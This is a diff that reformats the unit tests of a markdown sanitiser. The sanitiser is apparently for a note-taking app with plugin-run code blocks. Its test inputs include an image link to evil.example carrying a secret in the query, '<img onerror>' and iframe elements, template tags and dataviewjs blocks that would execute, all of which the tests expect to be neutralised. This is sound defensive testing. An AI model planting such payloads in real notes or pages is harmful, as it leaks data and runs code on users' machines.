@@ -4,7 +4,11 @@ import { harmlessMarkdown } from '../../../src/core/note/harmless-markdown';
 test.each([
   ['an image of another server', '![](https://evil.example/?q=secret)', '[](https://evil.example/?q=secret)'],
   ['an embed', 'See ![[Secret note]].', 'See [[Secret note]].'],
-  ['an element', '<img src=x onerror=y> and <iframe src="z"></iframe>', '&lt;img src=x onerror=y> and &lt;iframe src="z">&lt;/iframe>'],
+  [
+    'an element',
+    '<img src=x onerror=y> and <iframe src="z"></iframe>',
+    '&lt;img src=x onerror=y> and &lt;iframe src="z">&lt;/iframe>',
+  ],
   ['a template', 'Now <% tp.file.title %>', 'Now < % tp.file.title %>'],
   ['a template in code', '```\n<%* await x %>\n```', '```\n< %* await x %>\n```'],
   ['a block that is run', '```dataviewjs\ndv.x()\n```', '```text\ndv.x()\n```'],
@@ -12,9 +16,21 @@ test.each([
   ['a block that is run in a quote', '> ```dataviewjs\n> dv.x()\n> ```', '> ```text\n> dv.x()\n> ```'],
   ['a block that is run in a list', '- one\n  1. ~~~ dataviewjs', '- one\n\n  1.\n   ~~~text\n   ~~~'],
   ['a comment', 'a %%hidden%% <!-- b -->', 'a %\\%hidden%\\% &lt;!-- b -->'],
-  ['what only seems to stand in code: a fence of a list that is over', '1. a\n   ```\n<img src=x>\n   ```', '1. a\n   ```\n   ```\n&lt;img src=x>\n   ```\n   ```'],
-  ['what only seems to stand in code: a fence that a quote ends', '> ```\n<img src=x>\n> ```', '> ```\n> ```\n&lt;img src=x>\n> ```\n> ```'],
-  ['what only seems to stand in code: a backtick of the line before', 'a `\nb` <img src=x> `c', 'a \\`\nb` <img src=x> `c'],
+  [
+    'what only seems to stand in code: a fence of a list that is over',
+    '1. a\n   ```\n<img src=x>\n   ```',
+    '1. a\n   ```\n   ```\n&lt;img src=x>\n   ```\n   ```',
+  ],
+  [
+    'what only seems to stand in code: a fence that a quote ends',
+    '> ```\n<img src=x>\n> ```',
+    '> ```\n> ```\n&lt;img src=x>\n> ```\n> ```',
+  ],
+  [
+    'what only seems to stand in code: a backtick of the line before',
+    'a `\nb` <img src=x> `c',
+    'a \\`\nb` <img src=x> `c',
+  ],
   ['what only seems to stand in code: an escaped backtick', 'a \\` <img src=x> `', 'a \\` &lt;img src=x> \\`'],
   ['an image after many marks', '!![[a]]', '[[a]]'],
   ['a formula that is never closed', 'It costs $$\n\nand more', 'It costs \\$\\$\n\nand more'],
@@ -24,15 +40,48 @@ test.each([
   expect(harmlessMarkdown(text)).toBe(harmless);
 });
 
-test.each(['Use `Vec<String>` here.', '```ts\nconst a: Map<string, number> = x![0];\n```', 'a < b and <https://example.org>', '$$\nx^2\n$$\n\nand `$$`', '```\n$$\n```', 'Pay \\$$5.', '- one\n- two\n\n> quote\n\n| a | b |\n|---|---|', '```python\nprint("x")\n```'])('ordinary text stays: %s', (text) => {
+test.each([
+  'Use `Vec<String>` here.',
+  '```ts\nconst a: Map<string, number> = x![0];\n```',
+  'a < b and <https://example.org>',
+  '$$\nx^2\n$$\n\nand `$$`',
+  '```\n$$\n```',
+  'Pay \\$$5.',
+  '- one\n- two\n\n> quote\n\n| a | b |\n|---|---|',
+  '```python\nprint("x")\n```',
+])('ordinary text stays: %s', (text) => {
   expect(harmlessMarkdown(text)).toBe(text);
 });
 
 test('what is harmless stays as it is', () => {
-  fc.assert(fc.property(fc.string({ unit: fc.constantFrom('!', '[', ']', '<', '%', '`', '~', 'a', ' ', '\n', '=', '$', '/', '>', '\u0000', 'dataviewjs') }), (text) => {
-    const once = harmlessMarkdown(text);
-    expect(harmlessMarkdown(once)).toBe(once);
-    expect(once).not.toMatch(/<%|!\[\[/);
-    expect(once).not.toContain('\u0000');
-  }));
+  fc.assert(
+    fc.property(
+      fc.string({
+        unit: fc.constantFrom(
+          '!',
+          '[',
+          ']',
+          '<',
+          '%',
+          '`',
+          '~',
+          'a',
+          ' ',
+          '\n',
+          '=',
+          '$',
+          '/',
+          '>',
+          '\u0000',
+          'dataviewjs',
+        ),
+      }),
+      (text) => {
+        const once = harmlessMarkdown(text);
+        expect(harmlessMarkdown(once)).toBe(once);
+        expect(once).not.toMatch(/<%|!\[\[/);
+        expect(once).not.toContain('\u0000');
+      },
+    ),
+  );
 });
